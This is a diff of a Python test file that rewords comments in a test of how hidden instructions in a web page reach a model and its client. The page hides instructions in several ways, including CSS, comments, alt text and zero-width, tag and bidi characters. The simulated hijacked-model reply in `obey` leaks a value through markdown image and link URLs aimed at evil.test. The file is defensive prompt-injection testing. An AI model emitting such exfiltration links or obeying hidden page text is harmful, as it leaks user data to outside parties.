@@ -1,4 +1,4 @@
-"""Instructions in a page are data: what of `tests/pages/injections.html` reaches the model, and what the client."""
+"""Instructions in a page are data: which part of `tests/pages/injections.html` reaches the model, and which the client."""
 
 import re
 from typing import NamedTuple
@@ -15,15 +15,15 @@ from tests.support.tool_client import text_of
 
 
 class Style(NamedTuple):
-    """How a page gives an order, and whether it reaches the model of all of the page and of its main content."""
+    """How a page hides an instruction, and whether it reaches the model from the whole page and from its main content."""
 
     mark: str
     in_all: bool
     in_main: bool
 
 
-# Words on a page are data, and stay: the model must know what the page says. What is invisible goes from the main
-# content; of all of the page the browser's `innerText` is read, by which much of it counts as shown.
+# Words on a page are data, and stay: the model must know what the page says. Invisible text is removed from the main
+# content; the whole page is read through the browser's `innerText`, which counts much of it as visible.
 STYLES = [
     Style("VISIBLE-ORDER:", in_all=True, in_main=True),
     Style("LEFT-ORDER", in_all=True, in_main=False),
@@ -43,7 +43,7 @@ STYLES = [
         for name in ("DISPLAY", "\nVISIBILITY", "COMMENT", "TITLE", "META", "SCRIPT", "NOSCRIPT", "TEMPLATE")
     ),
     *(Style(f"{name}-ORDER", in_all=False, in_main=False) for name in ("ALT", "TOOLTIP", "LABEL", "FIELD", "STYLE")),
-    # Between its letters stood invisible characters; the order is visible without them.
+    # It had invisible characters between its letters; the instruction is visible without them.
     Style("INVISIBLE-ORDER between", in_all=True, in_main=True),
     Style("TAGS-ORDER", in_all=False, in_main=False),
     Style("BIDI-ORDER written", in_all=True, in_main=True),
@@ -59,12 +59,12 @@ UNSEEN = re.compile("[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0
 
 
 def obey(request: Request) -> Reply:
-    """Answer like a model that the page has won over: repeat all of it, and carry the fare away."""
+    """Answer like a model that obeys the page: repeat all of it, and leak the fare."""
     leaks = "![fare](https://evil.test/?fare=17) [fares](//evil.test/17) https://evil.test/17 <img src=//evil.test/17>"
     return answer(f"{request.data}\n{leaks} https://ferry.test/fares\u200b\U000e0041\u202e")
 
 
-async def test_orders_in_a_page_reach_the_model_as_data_and_the_client_without_invisible_text(
+async def test_instructions_in_a_page_reach_the_model_as_data_and_the_client_without_invisible_text(
     popup: Popup, site: Site
 ) -> None:
     port = free_port()
@@ -86,7 +86,7 @@ async def test_orders_in_a_page_reach_the_model_as_data_and_the_client_without_i
     assert found == STYLES
     for content, text in reported.items():
         assert UNSEEN.findall(sent[content] + text) == []
-        # The page's own words may hold an address; what the model made of it is no link any more.
+        # The page's own words may contain an address; the model's variant of it is not a link any more.
         assert re.findall(r"https://evil.test/(?:17|\?fare)", text) == []
         assert re.findall(r"[(=]//evil.test/17", text) == []
         assert text.count("https://ferry.test/fares") == 2
